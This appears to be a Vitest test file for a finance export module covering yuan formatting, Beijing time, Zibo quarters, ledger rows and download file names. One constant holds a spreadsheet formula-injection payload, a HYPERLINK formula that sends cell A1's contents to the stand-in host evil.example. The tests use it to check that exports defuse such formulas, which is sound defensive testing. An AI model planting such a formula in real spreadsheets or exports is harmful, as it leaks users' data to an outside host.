import { describe, expect, it } from 'vitest';
import { inPeriod, quarterPeriod, ziboQuarterOf } from '../../shared/domain/period.js';
import { beijingTime, yuanNumber, yuanText } from '../../shared/exports/cells.js';
import { csvField, csvRow } from '../../shared/exports/csv.js';
import { contentDisposition, fileAnswer } from '../../shared/exports/download.js';
import { ledgerRow } from '../../shared/exports/ledgerSection.js';
import { YUAN_FORMAT } from '../../shared/exports/xlsx.js';
import { quarterlyReport } from '../../shared/reports/quarterly.js';
import { csvRecords, xlsxSheetsOf } from './exportReaders.js';

/**
 * What an exported value looks like to finance staff (docs/reports.md "Exports"): yuan with two
 * decimals from integer fen, Beijing time, formula escaping of free text, Zibo quarters, the file name.
 */
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")';

describe('money in yuan', () => {
  it('writes fen as yuan with exactly two decimals, negative too, never through a float', () => {
    expect([12345, -12345, 5, -5, 0, 100, 1_000_000_07].map(yuanText)).toEqual([
      '123.45',
      '-123.45',
      '0.05',
      '-0.05',
      '0.00',
      '1.00',
      '1000000.07',
    ]);
    // 0.1 + 0.2 style drift cannot happen: the text is built from the integer
    expect(yuanText(30)).toBe('0.30');
    expect(yuanNumber(-12345)).toBe(-123.45);
    expect(() => yuanText(1.5)).toThrow(RangeError);
  });

  it('writes a negative yuan amount as a number, not as escaped text', () => {
    expect(csvField({ fen: -12345 })).toBe('-123.45');
    expect(csvField('-123.45')).toBe('-123.45');
    expect(csvField('-1+2')).toBe("'-1+2");
  });
});

describe('Beijing time', () => {
  it('shows an instant in UTC+8, whatever offset it was written with', () => {
    expect(beijingTime('2026-12-06T00:30:00Z')).toBe('2026-12-06 08:30:00');
    // just before midnight UTC is the next morning in Zibo
    expect(beijingTime('2026-12-05T23:59:59.999Z')).toBe('2026-12-06 07:59:59');
    // 16:00 UTC is midnight of the next Zibo day
    expect(beijingTime('2026-12-05T16:00:00Z')).toBe('2026-12-06 00:00:00');
    expect(beijingTime('2026-12-06T08:30:00+08:00')).toBe('2026-12-06 08:30:00');
    expect(csvField({ at: '2026-12-06T00:30:00Z' })).toBe('2026-12-06 08:30:00');
  });

  it('leaves text that is no instant as it is (and escapes it like any text)', () => {
    expect(beijingTime('unknown')).toBe('unknown');
    expect(csvField({ at: '=1+1' })).toBe("'=1+1");
  });
});

describe('formula escaping', () => {
  it('defuses free text a spreadsheet would run, quoting it as RFC 4180 asks', () => {
    expect(csvField(EVIL)).toBe(`"'${EVIL.replaceAll('"', '""')}"`);
    const [record] = csvRecords(`${csvRow([EVIL, '@SUM(1)', '+1', '\tx', 'ok'])}\r\n`);
    expect(record).toEqual([`'${EVIL}`, "'@SUM(1)", "'+1", "'\tx", 'ok']);
  });

  it('keeps free text a plain string cell in xlsx (never a formula)', async () => {
    const file = await fileAnswer(
      'xlsx',
      [{ title: 'T', sheet: 'S', header: ['a', 'b'], rows: [[EVIL, { fen: -5 }]] }],
      { ascii: 'x', zh: '测试' },
      { titled: false, created: '2026-01-01T00:00:00Z' },
    );
    const [sheet] = await xlsxSheetsOf(file.binary ?? new Uint8Array(), 1);
    const [text, money] = sheet?.rows[1] ?? [];
    expect(text?.value).toBe(EVIL);
    expect(text?.type).toBe(3); // ExcelJS.ValueType.String
    expect(money).toMatchObject({ value: -0.05, numFmt: YUAN_FORMAT, type: 2 });
  });
});

describe('Zibo quarters', () => {
  it('puts 2026-03-31T17:00:00Z (01:00 on 1 April in Zibo) in Q2, 15:59:59 UTC still in Q1', () => {
    const at = '2026-03-31T17:00:00Z';
    expect(ziboQuarterOf(Date.parse(at))).toEqual({ year: 2026, quarter: 2 });
    expect(inPeriod(at, quarterPeriod(2026, 2))).toBe(true);
    expect(inPeriod(at, quarterPeriod(2026, 1))).toBe(false);
    expect(ziboQuarterOf(Date.parse('2026-03-31T15:59:59.999Z'))).toEqual({ year: 2026, quarter: 1 });
    expect(quarterPeriod(2026, 2).start).toBe('2026-03-31T16:00:00.000Z');
  });

  it("counts a ledger entry at that instant in Q2's fund figures, not Q1's", () => {
    const entry = {
      entryId: 'L-B',
      at: '2026-03-31T17:00:00Z',
      kind: 'advance' as const,
      amountFen: 12345,
      debit: 'advances' as const,
      credit: 'fund_cash' as const,
      actor: 'fa-1',
    };
    const q = (quarter: number) => quarterlyReport([], [entry], { year: 2026, quarter, district: '370302' });
    expect(q(2).fund.advanced).toEqual({ count: 1, amountFen: 12345 });
    expect(q(1).fund.advanced).toEqual({ count: 0, amountFen: 0 });
  });
});

describe('ledger rows', () => {
  it('names every code and shows money, the cash effect and the time as finance staff read them', () => {
    const row = ledgerRow({
      entryId: 'R-1',
      at: '2026-05-31T23:59:59Z',
      kind: 'replenishment',
      amountFen: 50_000_00,
      debit: 'fund_cash',
      credit: 'quota_sales',
      actor: 'fa-1',
      source: 'quota_sale',
      reference: EVIL,
      seq: 3,
      balanceAfterFen: 60_000_00,
      quotaMu4: 1500,
      quotaCentiM2: 10_000,
    });
    expect(csvRow(row)).toBe(
      [
        '3',
        '2026-06-01 07:59:59',
        '资金补充 replenishment',
        '50000.00',
        '50000.00',
        '60000.00',
        '专项基金存款 fund cash',
        '指标交易收入 quota sales',
        '节余建设用地指标交易 surplus construction-land quota sale',
        '',
        '',
        '',
        '',
        '100.00',
        '0.1500',
        csvField(EVIL),
        'fa-1',
        'R-1',
      ].join(','),
    );
  });
});

describe('file names', () => {
  it('sends an ASCII filename and the Chinese one as filename*', () => {
    expect(contentDisposition('ledger-370302.csv')).toBe('attachment; filename="ledger-370302.csv"');
    expect(contentDisposition('report-370302-2026Q2.xlsx', '淄川区(2026)*报告.xlsx')).toBe(
      `attachment; filename="report-370302-2026Q2.xlsx"; filename*=UTF-8''${encodeURIComponent('淄川区')}%282026%29%2A${encodeURIComponent('报告')}.xlsx`,
    );
    // nothing outside printable ASCII, no quote, in the plain filename
    expect(contentDisposition('a"b\\c报.csv')).toBe('attachment; filename="a_b_c_.csv"');
  });
});
